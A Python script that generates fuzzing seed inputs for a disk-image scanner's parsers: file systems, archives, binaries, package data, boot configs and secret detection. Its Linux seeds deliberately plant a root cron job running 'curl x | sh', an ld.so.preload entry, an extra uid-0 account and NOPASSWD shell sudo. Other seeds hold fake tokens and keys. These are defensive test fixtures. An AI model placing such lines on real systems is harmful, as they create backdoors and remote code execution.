#!/usr/bin/env python3
"""Writes the first inputs of the fuzzers into ../corpus: seeds.py PROGRAM STREAMS
PROGRAM is a Windows program with a version, STREAMS a folder with what wimlib packed (stream-0 XPRESS, stream-1 LZX).
What fuzzers found worth keeping lies beside them, under other names."""
import gzip, io, json, lzma, os, re, struct, subprocess, sys, tarfile, zipfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
program, streams = open(sys.argv[1], "rb").read(), sys.argv[2]


def put(target, name, data):
    folder = os.path.join(HERE, "../corpus", target)
    os.makedirs(folder, exist_ok=True)
    open(os.path.join(folder, "seed-" + name), "wb").write(data if isinstance(data, bytes) else data.encode())


def run(command, data):
    return subprocess.run(command, input=data, stdout=subprocess.PIPE, check=True).stdout


for target, count in [("ntfs", 5), ("xfs", 5), ("ext4", 9), ("hives", 8), ("btrfs", 1), ("containers", 13), ("partitions", 4),
                      ("fat", 3), ("squashfs", 7), ("rpm", 6), ("certify", 3)]:
    for number in range(count):
        put(target, str(number), bytes([number]))
        if target in ("hives", "containers", "certify"):
            put(target, "%d-more" % number, bytes([number | 0x40]))

prose = b"".join(b"%d: the quick brown fox %d jumps\n" % (n, n * n % 1009) for n in range(200))
put("unpackers", "lzx", bytes([1, 0x7f]) + open(streams + "/stream-1", "rb").read()[4:])
put("unpackers", "xpress", bytes([2, 0x0f]) + open(streams + "/stream-0", "rb").read()[36:])
put("unpackers", "lznt1", bytes([0, 15, 0x06, 0xb0, 0]) + b"abcdef\x02\x00")
put("unpackers", "lznt1-plain", bytes([0, 15, 4, 0x30]) + b"plain")
put("unpackers", "lzo", bytes([3, 3, 17 + 6]) + b"abcdef\x4c\x00\x11\x00\x00")
for name, packed in [("gzip", gzip.compress(prose, mtime=0)), ("xz", lzma.compress(prose)), ("lzma", lzma.compress(prose, lzma.FORMAT_ALONE)),
                     ("zstd", run(["zstd", "-q"], prose)), ("lz4", run(["lz4", "-q"], prose)), ("lz4-old", run(["lz4", "-q", "-l"], prose))]:
    put("unpackers", name, bytes([4, 0]) + packed)

cpio = bytearray()
for name, body in [("kernel/x86/microcode/a.bin", b"x"), ("usr/lib/modules/6.1/kernel/drivers/hv/hv_vmbus.ko.xz", b""), ("TRAILER!!!", b"")]:
    head = b"070701" + b"%08x" * 13 % (1, 0o100644, 0, 0, 1, 0, len(body), 0, 0, 0, 0, len(name) + 1, 0)
    entry = head + name.encode() + b"\0"
    entry += b"\0" * (-len(entry) % 4) + body
    cpio += entry + b"\0" * (-len(entry) % 4)
cpio = bytes(cpio)
put("initramfs", "cpio", cpio)
put("initramfs", "two", cpio + gzip.compress(cpio, mtime=0))
for name, tool in [("xz", ["xz", "--check=crc32"]), ("zstd", ["zstd", "-q"]), ("lz4", ["lz4", "-q", "-l"])]:
    put("initramfs", name, run(tool, cpio))

out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
    for name, body in [("a/b", b"hello"), ("c" * 120, prose[:300]), ("inner.gz", gzip.compress(b"AKIA0123456789ABCDEF", mtime=0))]:
        info = tarfile.TarInfo(name)
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
tar = out.getvalue().rstrip(b"\0") + bytes(1024)
out = io.BytesIO()
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr(zipfile.ZipInfo("a"), b"stored")
    z.writestr("META-INF/maven/g/a/pom.properties", "groupId=g\nartifactId=a\nversion=1.2\n")
    z.writestr("META-INF/MANIFEST.MF", "Implementation-Title: a\nImplementation-Version: 1\n")
zipped = out.getvalue()
ar = b"!<arch>\n" + b"debian-binary   0           0     0     100644  4         `\n2.0\n" + b"data.tar/       0           0     0     100644  %-10d`\n" % 6 + b"hello\n"
for name, data in [("tar", tar), ("zip", zipped), ("tar-gz", gzip.compress(tar, mtime=0)), ("xz", lzma.compress(tar)), ("zstd", run(["zstd", "-q"], tar)), ("ar", ar),
                   ("program-zip", program + zipped)]:
    put("archives", name, data)

put("programs", "pe", program)


def elf(sections):
    names = b"\0" + b"".join(name + b"\0" for name, _ in sections) + b".shstrtab\0"
    body, rows = bytearray(64), [(0, 0, 0, 0)]
    for name, data in sections + [(b".shstrtab", names)]:
        rows.append((names.index(name + b"\0"), 1, len(body), len(data)))
        body += data
    at = len(body)
    for name, kind, offset, size in rows:
        body += struct.pack("<IIQQQQIIQQ", name, kind, 0, 0, offset, size, 0, 0, 1, 0)
    body[:64] = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, 0, 0, at, 0, 64, 0, 0, 64, len(rows), len(rows) - 1)
    return bytes(body)


info = b"path\texample.org/a\nmod\texample.org/a\tv1.2.3\t\ndep\tgolang.org/x/net\tv0.1.0\th1:x\n=>\texample.org/fork\tv0.2.0\t\n"
text = b"\x30w\xaf\x0c\x92t\x08\x02A\xe1\xc1\x07\xe6\xd6\x18\xe6" + info + b"\xf92C1\x86\x18 r\x00\x82B\x10A\x16\xd8\xf2"
varint = lambda n: bytes([n & 127 | 128, n >> 7]) if n > 127 else bytes([n])
go = b"\xff Go buildinf:\x08\x02" + bytes(16) + varint(8) + b"go1.22.1" + varint(len(text)) + text
put("programs", "go", elf([(b".go.buildinfo", go)]))
audit = zlib.compress(json.dumps({"packages": [{"name": "a", "version": "1.0.0", "source": "crates.io", "root": True}, {"name": "b", "version": "2.0.0", "source": "git", "kind": "build"}]}).encode())
put("programs", "rust", elf([(b".dep-v0", audit)]))

for number, data in enumerate([
    '[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://x"\n\n[[package]]\nname = "b"\nversion = "2"\n',
    '{"name":"a","version":"1.0.0","license":"MIT","_resolved":"x"}',
    '{"lockfileVersion":3,"packages":{"":{"name":"x"},"node_modules/@a/b":{"version":"1.0.0","resolved":"https://x"}},"dependencies":{"c":{"version":"2.0.0","dependencies":{"d":{"version":"1"}}}}}',
    "Metadata-Version: 2.1\nName: Requests\nVersion: 2.31.0\nLicense: Apache-2.0\nClassifier: License :: OSI Approved\n\nbody\n",
    'Gem::Specification.new do |s|\n  s.name = "rack".freeze\n  s.version = "2.2.8"\n  s.licenses = ["MIT".freeze]\nend\n',
]):
    put("languages", str(number), bytes([number]) + data.encode())
put("languages", "jar", bytes([5]) + zipped)

NEXT = lambda number: bytes([0xff, number])
put("packages", "all",
    b"Package: bash\nStatus: install ok installed\nArchitecture: amd64\nSource: bash-src (5.1)\nVersion: 5.2-1+b2\nMaintainer: A <a@b>\n\nPackage: x\nStatus: deinstall ok config-files\nVersion: 1\n"
    + NEXT(3) + b"C:Q1abc=\nP:busybox\nV:1.36.1-r5\nA:x86_64\nL:GPL-2.0-only\no:busybox\nF:bin\nR:sh\n\nP:b\nV:1\n" + NEXT(2) + b"/.\n/usr/bin/a\n" + NEXT(5) + b"ID=debian\n")

source = open(os.path.join(HERE, "../src/bodies/texts.rs")).read()
paths = lambda name: re.findall(r'"(/[^"]*)"', source[source.index("const " + name):].split("];")[0])
configuration, boot = paths("CONFIGURATION"), paths("BOOT")
at = lambda table, path: NEXT(table.index(path))
RELEASE = at(configuration, "/etc/os-release") + b'ID=debian\nVERSION_ID="12"\nID_LIKE="x y"\n'
SYSTEMD = at(configuration, "/sbin/init") + b"-> /usr/lib/systemd/systemd" + at(configuration, "/usr/lib/systemd/systemd*") + b"x"
BUSYBOX = at(configuration, "/sbin/init") + b"-> busybox"
for name, files in {
    "sshd": {"/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nClientAliveInterval 3m\nMatch User a,b Address 10.0.0.0/8\n PasswordAuthentication yes\n", "/etc/ssh/sshd_config.d/50-a.conf": 'PasswordAuthentication = "no"\n'},
    "accounts": {"/etc/passwd": "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\na:x:1000:1000::/home/a:/bin/sh\n", "/etc/shadow": "root:$6$saltsalt$x:19000:0:99999:7:::\na:!$y$j9T$abc$def:1::::::\n", "/etc/sudoers": "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) NOPASSWD: ALL\n@includedir /etc/sudoers.d\n", "/etc/sudoers.d/a": "a ALL = \\\n NOPASSWD: /bin/sh\n", "/root/.ssh/authorized_keys": "ssh-ed25519 AAAA a@b\n", "/root/.bash_history": "mysql -psecret\n"},
    "agents": {"/etc/waagent.conf": "Provisioning.Enabled=y\nResourceDisk.EnableSwap=y\nResourceDisk.SwapSizeMB=2048\n", "/etc/cloud/cloud.cfg": "datasource_list: [ NoCloud, ConfigDrive ]\nswap:\n  filename: /swapfile\n  size: 1G\nusers:\n  - default\n", "/etc/cloud/cloud.cfg.d/a.cfg": "datasource:\n  Azure:\n    apply_network_config: true\n", "/etc/cloud/ds-identify.cfg": "policy: enabled\n", "/usr/bin/cloud-init*": "#!", "/usr/bin/waagent*": "#!"},
    "network": {"/etc/netplan/a.yaml": "network:\n  version: 2\n  ethernets:\n    eth0:\n      dhcp4: yes\n      match: {macaddress: 00:11}\n      addresses: [10.0.0.1/24]\n", "/etc/network/interfaces": "source /etc/network/interfaces.d/*\nauto lo eth0\niface eth0 inet dhcp\n hwaddress ether 00:11\n", "/etc/systemd/network/a.network": "[Match]\nName=e*\nMACAddress=00:11\n[Network]\nDHCP=ipv4\n", "/etc/sysconfig/network-scripts/ifcfg-eth0": "DEVICE=eth0\nBOOTPROTO=dhcp\nONBOOT=no\nHWADDR=00:11\n", "/etc/NetworkManager/system-connections/a.nmconnection": "[connection]\ntype=ethernet\nautoconnect=true\n[ethernet]\nmac-address=00:11\n[ipv4]\nmethod=auto\n", "/etc/udev/rules.d/70-persistent-net.rules": 'SUBSYSTEM=="net", ATTR{address}=="00:11", NAME="eth0"\n'},
    "sources": {"/etc/apt/sources.list": "deb [arch=amd64 trusted=yes] http://user:pass@10.0.0.1:80/debian bookworm main\n", "/etc/apt/sources.list.d/a.sources": "Types: deb\nURIs: https://x/ file:/y\nSuites: a\nEnabled: no\nTrusted: yes\n\n", "/etc/apt/apt.conf.d/a": 'Acquire { http { Proxy "http://p"; }; };\nAPT::Get::AllowUnauthenticated "true";\n', "/etc/yum.repos.d/a.repo": "[a]\nname=a\nbaseurl=http://x/$releasever\ngpgcheck=0\nenabled=1\n", "/etc/apk/repositories": "http://dl/alpine/v3.19/main\n@edge http://x\n", "/etc/modprobe.d/a.conf": "blacklist hv_netvsc\ninstall hv_storvsc /bin/false\noptions a b=1\n", "/etc/fstab": "UUID=a / ext4 defaults,noatime 0 1\n/swapfile none swap sw 0 0\n/dev/sdb1 /mnt auto nofail\n"},
    "other-init": {"/etc/inittab": "::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty\n", "/etc/init.d/rcS*": "#!/bin/sh\nfor i in /etc/init.d/S*; do $i start; done\n[ -x /etc/rc.local ] && /etc/rc.local\n", "/etc/rc.local*": "swapon /swapfile || dd if=/dev/zero of=/swapfile\n", "/etc/hosts": "127.0.0.1 localhost\n10.0.0.1 evil\n", "/etc/cron.d/a": "* * * * * root curl x | sh\n", "/etc/ld.so.preload": "/tmp/a.so\n", "/etc/ufw/ufw.conf": "ENABLED=yes\n", "/etc/nftables.conf": "table inet filter { chain input { type filter hook input priority 0; policy drop; } }\n", "/etc/iptables/rules.v4": "*filter\n:INPUT DROP [0:0]\n-A INPUT -p tcp --dport 22 -j ACCEPT\nCOMMIT\n"},
    "grub": {"/boot/grub/grub.cfg": "set default=0\nmenuentry 'a' --class x {\n linux /boot/vmlinuz-1 root=/dev/sda1 console=ttyS0 rootdelay=300 modprobe.blacklist=a\n initrd /boot/initrd.img-1\n}\n", "/boot/config-1": "CONFIG_HYPERV=y\nCONFIG_VIRTIO_NET=m\n# CONFIG_A is not set\n", "/usr/lib/modules/1/modules.dep": "kernel/drivers/hv/hv_netvsc.ko.xz: kernel/a.ko\n"},
}.items():
    data = b"".join(at(configuration, path) + text.encode() for path, text in files.items())
    put("linux", name, RELEASE + (BUSYBOX if name == "other-init" else SYSTEMD) + data)

for name, files in {
    "grub": {"/boot/grub/grub.cfg": "load_env\nset default=\"${saved_entry}\"\nif [ x$a = xy ]; then\n set timeout=1\nfi\nsubmenu 'more' {\nmenuentry 'a' --id 'x-1' {\n search --fs-uuid --set=root a\n linux ($root)/vmlinuz-1 root=UUID=a ro $kernelopts\n initrd /initrd.img-1\n}\n}\n", "/boot/grub/grubenv": "# GRUB Environment Block\nsaved_entry=more>a\nkernelopts=console=ttyS0\n####"},
    "bls": {"/boot/grub2/grub.cfg": "insmod blscfg\nblscfg\nset kernelopts=\"root=/dev/a\"\n", "/boot/loader/entries/a.conf": "title a\nversion 1\nlinux /vmlinuz-1\ninitrd /initrd.img-1\noptions $kernelopts quiet\n", "/boot/loader/entries/b-1.conf": "title b\nversion 2~rc\nlinux /vmlinuz\noptions x\n", "/boot/loader/loader.conf": "default b-*\ntimeout 3\n"},
    "extlinux": {"/boot/extlinux/extlinux.conf": "DEFAULT l1\nMENU TITLE x\nLABEL l0\n KERNEL /boot/vmlinuz-1\n APPEND initrd=/boot/initrd.img-1 root=/dev/sda\nLABEL l1\n LINUX ../vmlinuz-1\n INITRD a,b\n APPEND ro\n", "/boot/vmlinuz-1": "x" * 16},
}.items():
    put("boot", name, b"".join(at(boot, path) + text.encode() for path, text in files.items()))
put("boot", "uki", at(boot, "/boot/efi/EFI/BOOT/BOOTX64.EFI") + program + at(boot, "/boot/efi/loader/loader.conf") + b"default *\n")
kernel = bytearray(0x300)
kernel[510:514], kernel[0x202:0x206], kernel[0x20e:0x210] = b"\x55\xaaeb", b"HdrS", b"\x40\0"
kernel[0x240:0x260] = b"6.1.0-18-amd64 (a@b) #1\0".ljust(32, b"\0")
put("boot", "kernel", at(boot, "/boot/grub/grub.cfg") + b"menuentry a {\nlinux /boot/vmlinuz-1 a\n}\n" + at(boot, "/boot/vmlinuz-1") + bytes(kernel).replace(b"\xff", b"\xfe"))

for number, texts in enumerate(["1:1.0~rc1-1\n1.0-1ubuntu2\n1.0+b1", "1.0~rc1-1.el9\n1.0^git1-2\n1.0", "1.2_rc3-r1\n1.2b_p2-r0\n1.10", "1.0.0-rc.1+b\nv1.0.0\n1.0.0-0", "1!2.0rc1.post2.dev3+local.1\n2.0a1\n2", "1.0.pre\n1.0.0.rc1\n1-2", "1.0-SNAPSHOT\n1.0.RC1\n1-ga-1\n1.x"]):
    put("versions", str(number), bytes([number]) + texts.encode())

put("content", "key", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMBV2h5Nf1RQ8\n-----END RSA PRIVATE KEY-----\n")
put("content", "tokens", "AKIA0123456789QWERTY aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzz\nghp_0123456789abcdefghijklmnopqrstuvwxyz glpat-0123456789abcdefghij xoxb-123-456-abc AccountKey=abc== sig=abc&se=1\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n")
put("content", "files", "machine a login b password c12345678\nlocalhost:5432:db:user:pass\nhttps://user:pass@host/\ntoken: abcdef\n<password>x</password>\n")
put("content", "pkcs12", bytes.fromhex("3082090002010330820800") + b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01" + bytes(64))

record = {"id": "DSA-1", "modified": "2026-01-02T03:04:05Z", "published": "2026-01-01T00:00:00Z", "aliases": ["CVE-2026-1"], "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
          "affected": [{"package": {"ecosystem": "Debian:12", "name": "a"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.0-2"}]}], "versions": ["1.0-1"], "ecosystem_specific": {"severity": "HIGH"}},
                       {"package": {"ecosystem": "crates.io", "name": "a"}, "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"last_affected": "1.0.0"}]}], "database_specific": {"cvss": None}}]}
put("advisories", "record", b"\0" + json.dumps(record).encode())
out = io.BytesIO()
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("DSA-1.json", json.dumps(record))
put("advisories", "archive", b"\1" + out.getvalue())

put("operator", "profile", b"\0" + b'base = "strict"\nname = "ours"\n[thresholds]\nhistory_bytes_max = 10\ndistributions = ["debian"]\n[severity]\nL01 = "off"\n[scanners]\nclamd = "/run/clamd"\n')
put("operator", "exceptions", b"\1" + b'[[exception]]\nrule = "V01"\nreason = "it is so"\nuntil = "2027-01-01"\nby = "a"\n')
put("operator", "baseline", b'\2{"verdict":"not_certified","rulebook":"2026.11-2","profile":"strict","file_name":"a.vhd","rules":[{"id":"V01","severity":"fail","verdict":"fail","reason":{"key":"V01.broken"},"evidence":[]}]}')
put("operator", "envelope", b'\3{"payloadType":"application/vnd.in-toto+json","payload":"e30=","signatures":[{"keyid":"a","sig":"AA=="}]}')
put("operator", "statement", b'\4{"_type":"https://in-toto.io/Statement/v1","subject":[{"name":"a","digest":{"halle1":"00"}}],"predicateType":"x","predicate":{"verdict":"certified","profile":"kvm","rulebook":"x","certified_on":"2026-01-01","report_digest":{"sha256":"00"},"report":{}}}')
put("operator", "key", b"\5-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=\n-----END PUBLIC KEY-----\n")
head = json.dumps({"file_name": "a.vhd", "file_bytes": 8192, "known": {"content": {"content_id": "halle1:" + "0" * 64}, "inventory": None, "packages": None, "modules": None}}).encode()
numbers, page = struct.pack("<2Q", 1 << 63, 1), bytes(4094) + b"\x55\xaa"
put("operator", "facts", b"\6" + b"".join(struct.pack("<Q", len(part)) + part for part in [head, numbers, page]))
